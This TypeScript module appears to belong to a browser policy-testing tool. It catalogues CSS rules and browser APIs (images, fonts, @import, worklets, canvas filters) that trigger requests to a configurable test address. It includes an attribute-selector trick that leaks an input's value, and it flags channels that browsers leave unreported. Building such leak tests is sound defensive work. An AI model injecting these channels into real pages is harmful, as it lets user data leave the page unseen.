import { ownOriginOnly } from './media-ways';
import { place, placeNew } from './place';
import type { LeakTarget, WayOut } from './way-out';

const workletRule = 'script-src, of which browsers give no report for worklets';

/** Addresses in styles. */
export const styleWays: readonly WayOut[] = [
  styled('background', 'background picture', (to) => `background: url(${to})`),
  styled('image-set', 'background in several sizes', (to) => `background: image-set("${to}" 1x)`),
  styled('border', 'picture as a border', (to) => `border: 2px solid; border-image: url(${to}) 1`),
  styled('mask', 'picture as a mask', (to) => `background: red; mask-image: url(${to})`),
  {
    ...styled('filter', 'filter from elsewhere', (to) => `background: red; filter: url(${to}#f)`),
    unreported: ownOriginOnly,
  },
  styled('clip', 'outline from elsewhere', (to) => `background: red; clip-path: url(${to}#c)`),
  styled('shape', 'shape of a picture', (to) => `float: left; shape-outside: url(${to})`),
  styled('list', 'picture of a list', (to) => `display: list-item; list-style: url(${to})`),
  styled(
    'variable',
    'address in a variable',
    (to) => `--leak: url(${to}); background: var(--leak)`,
  ),
  {
    id: 'style-content',
    title: 'picture before a text',
    attempt: ({ http }) => {
      sheet(`.leak-content::before { content: url(${http}/rows.png) }`);
      placeNew('div', { class: 'leak-content' });
    },
  },
  {
    id: 'style-import',
    title: 'style sheet that imports another',
    attempt: ({ http }) => sheet(`@import url(${http}/rows.css);`),
  },
  {
    id: 'style-font',
    title: 'font of a style sheet',
    attempt: ({ http }) => {
      sheet(`@font-face { font-family: leak-font; src: url(${http}/rows.woff2) }`);
      const text = placeNew('span', { style: 'font-family: leak-font' });
      text.textContent = 'rows';
      return document.fonts.load('12px leak-font', 'rows');
    },
  },
  {
    id: 'style-selector',
    title: 'style that tells of a value (selector by attribute)',
    attempt: ({ http }) => {
      sheet(`input[value^="r"].leak-value { background: url(${http}/r) }`);
      placeNew('input', { value: 'rows', class: 'leak-value' });
    },
  },
  {
    id: 'style-adopted',
    title: 'style sheet made by script',
    attempt: async ({ http }) => {
      const made = new CSSStyleSheet();
      made.replaceSync(`.leak-adopted { background: url(${http}/rows.png) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, made];
      placeNew('div', { class: 'leak-adopted' }).style.cssText = boxed;
      await new Promise((resolve) => setTimeout(resolve, 60));
      document.adoptedStyleSheets = document.adoptedStyleSheets.filter((each) => each !== made);
    },
  },
  {
    id: 'style-worklet',
    title: 'painter of styles from elsewhere (worklet)',
    unreported: workletRule,
    needs: 'CSS.paintWorklet',
    attempt: ({ http }) =>
      (
        CSS as unknown as { paintWorklet: { addModule(to: string): Promise<void> } }
      ).paintWorklet.addModule(`${http}/rows.js`),
  },
  {
    id: 'audio-worklet',
    title: 'maker of sounds from elsewhere (worklet)',
    unreported: workletRule,
    needs: 'OfflineAudioContext',
    attempt: ({ http }) =>
      new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${http}/rows.js`),
  },
  {
    id: 'canvas-filter',
    title: 'filter of a canvas from elsewhere',
    unreported: ownOriginOnly,
    attempt: ({ http }) => {
      const context = document.createElement('canvas').getContext('2d')!;
      context.filter = `url(${http}/rows.svg#f)`;
      context.fillRect(0, 0, 9, 9);
    },
  },
];

const boxed = 'width: 9px; height: 9px;';

function styled(id: string, title: string, rule: (address: string) => string): WayOut {
  return {
    id: `style-${id}`,
    title,
    attempt: ({ http }: LeakTarget) => {
      const box = place(document.createElement('div'));
      box.style.cssText = `${boxed} ${rule(`${http}/rows.png`)}`;
    },
  };
}

function sheet(text: string): void {
  placeNew('style', {}, document.head).textContent = text;
}
